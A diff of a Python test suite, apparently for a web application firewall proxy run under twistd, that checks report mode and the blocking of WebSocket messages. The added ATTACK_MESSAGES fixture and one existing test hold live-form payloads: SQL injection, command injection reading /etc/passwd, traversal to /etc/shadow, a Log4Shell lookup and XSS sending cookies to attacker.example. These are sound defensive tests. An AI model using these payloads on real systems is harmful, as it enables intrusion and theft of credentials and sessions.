-    log says the filter would have refused it (and the waf line names the rule)."""
+    """mode = report: a request with a traversal passes to the upstream and the twistd log
+    says the filter would have refused it (and the waf line names the rules)."""
     port = free_port()
     process = proxy.start(config(upstream.url, listen(port), "filters = firewall",
                                  WAF_FILTER + "mode = report\n"), port=port)
@@ -676,12 +726,13 @@ def test_waf_report_mode_through_twistd(proxy, upstream):
     line = log_line(process, "would have refused")
     assert f"filter firewall (report mode) would have refused GET {target}" in line
     assert f"403 {BLOCKED}" in line
-    assert "930120 OS File Access Attempt at ARGS:file=" in log_line(process, "waf: anomaly score")
+    assert "930120 OS File Access Attempt at ARGS:file" in log_line(process, "waf: refused with 403")
 
 
 def test_waf_websocket_messages_through_twistd(proxy, ws_upstream):  # noqa: F811
-    """Through twistd on a websocket = yes route: benign chat messages are echoed; a
-    message with XSS closes the session with 1008 and the reason instead of being
+    """Through twistd on a websocket = yes route: benign chat messages are echoed, a
+    burst of them (inspected in the thread pool, one after the other) in the order sent;
+    a message with XSS closes the session with 1008 and the reason instead of being
     relayed (no echo comes back)."""
     from websockets.exceptions import ConnectionClosed
     from websockets.sync.client import connect
@@ -693,8 +744,41 @@ def test_waf_websocket_messages_through_twistd(proxy, ws_upstream):  # noqa: F81
         hello = json.dumps({"type": "message", "text": "Bonjour, j'ai une question sur ma commande"})
         ws.send(hello)
         assert ws.recv(timeout=10) == hello
+        burst = [json.dumps({"type": "message", "text": f"message {n}: " + "lorem ipsum " * n * 50}) for n in range(20)]
+        for message in burst:
+            ws.send(message)
+        assert [ws.recv(timeout=10) for _ in burst] == burst
         ws.send(json.dumps({"type": "message", "text": "<img src=x onerror=alert(document.cookie)>"}))
         with pytest.raises(ConnectionClosed) as info:
             ws.recv(timeout=10)
     assert info.value.rcvd is not None
     assert (info.value.rcvd.code, info.value.rcvd.reason) == (1008, BLOCKED)
+
+
+ATTACK_MESSAGES = [
+    {"type": "message", "text": "1' UNION SELECT username, password FROM users--"},
+    {"type": "message", "text": "; cat /etc/passwd"},
+    {"type": "message", "text": "../../../../etc/shadow"},
+    {"type": "message", "text": "${jndi:ldap://attacker.example/a}"},
+    "<script>document.location='http://attacker.example/?c='+document.cookie</script>",
+]
+
+
+def test_waf_drops_attack_messages_through_twistd(proxy, ws_upstream):  # noqa: F811
+    """Through twistd with refused_message = drop: WebSocket messages carrying SQL
+    injection, command injection, traversal, Log4Shell (JSON chat messages) and XSS (a
+    plain-text message) are each dropped, the chat messages between them are relayed in
+    the order sent, and the session stays open."""
+    from websockets.sync.client import connect
+
+    port = free_port()
+    proxy.start(config(f"http://127.0.0.1:{ws_upstream.port}", listen(port), "websocket = yes\nfilters = firewall",
+                       WAF_FILTER + "refused_message = drop\n"), port=port)
+    benign = [json.dumps({"type": "message", "text": f"Thanks, that was message {n}"}) for n in range(len(ATTACK_MESSAGES))]
+    with connect(f"ws://127.0.0.1:{port}/chat", open_timeout=10, close_timeout=5) as ws:
+        for attack, fine in zip(ATTACK_MESSAGES, benign):
+            ws.send(attack if isinstance(attack, str) else json.dumps(attack))
+            ws.send(fine)
+        assert [ws.recv(timeout=10) for _ in benign] == benign
+        ws.send(benign[0])
+        assert ws.recv(timeout=10) == benign[0]
